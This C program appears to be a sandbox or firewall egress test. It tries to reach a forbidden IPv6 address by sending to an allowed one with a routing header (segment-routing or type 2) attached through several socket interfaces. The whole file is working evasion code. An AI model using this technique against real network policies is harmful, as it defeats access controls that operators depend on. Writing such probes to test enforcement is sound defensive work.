// SPDX-License-Identifier: Apache-2.0
//
// The socket sends to what is allowed, and an IPv6 routing header makes the packets go by ADDRESS.
//   routing_header tcp|udp option|ancillary|packet-options segments|type2 ADDRESS PORT ALLOWED
#define _GNU_SOURCE
#include "attack.h"
#include <netinet/in.h>

enum { OLD_PACKET_OPTIONS = 6 /* IPV6_2292PKTOPTIONS */, TYPE_2 = 2, SEGMENT_ROUTING = 4 };

/* By way of `by`: the last one is filled in by the kernel. */
static size_t put_header(uint8_t *at, struct in6_addr by, int is_type_2)
{
	uint8_t segments[40] = {0, 4, SEGMENT_ROUTING, 1, 1}, type_2[24] = {0, 2, TYPE_2, 1};

	memcpy(segments + 24, &by, sizeof(by));
	memcpy(type_2 + 8, &by, sizeof(by));
	memcpy(at, is_type_2 ? type_2 : segments, is_type_2 ? sizeof(type_2) : sizeof(segments));
	return is_type_2 ? sizeof(type_2) : sizeof(segments);
}

int main(int argc, char **argv)
{
	struct timeval patience = {.tv_usec = 200000};
	struct target target, allowed;
	uint8_t header[64];
	char control[CMSG_SPACE(sizeof(header))] = {0};
	struct iovec data = {.iov_base = PAYLOAD, .iov_len = sizeof(PAYLOAD)};
	struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control)};
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);
	int fd, is_tcp;
	size_t size;

	if (argc != 7)
		usage("routing_header tcp|udp option|ancillary|packet-options segments|type2 ADDRESS PORT ALLOWED");
	target = target_of(argv[4], argv[5]);
	allowed = target_of(argv[6], argv[5]);
	size = put_header(header, v6(&target), !strcmp(argv[3], "type2"));
	is_tcp = !strcmp(argv[1], "tcp");
	fd = must(socket(AF_INET6, is_tcp ? SOCK_STREAM : SOCK_DGRAM, 0), "socket");
	head->cmsg_level = IPPROTO_IPV6;
	head->cmsg_type = IPV6_RTHDR;
	head->cmsg_len = CMSG_LEN(size);
	memcpy(CMSG_DATA(head), header, size);
	message.msg_controllen = CMSG_SPACE(size);
	if (!strcmp(argv[2], "option")) {
		if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, header, size) != 0)
			errno == EINVAL ? impossible("setsockopt") : refused("setsockopt");
		message.msg_controllen = 0;
	} else if (!strcmp(argv[2], "packet-options")) {
		if (setsockopt(fd, IPPROTO_IPV6, OLD_PACKET_OPTIONS, control, CMSG_SPACE(size)) != 0)
			errno == EINVAL ? impossible("setsockopt") : refused("setsockopt");
		message.msg_controllen = 0;
	}
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	if (is_tcp) {
		if (!is_under_way(connect(fd, to(&allowed), allowed.size)))
			refused("connect");
		return sent();
	}
	message.msg_name = &allowed.storage;
	message.msg_namelen = allowed.size;
	if (sendmsg(fd, &message, 0) < 0)
		errno == EINVAL ? impossible("sendmsg") : refused("sendmsg");
	return sent();
}
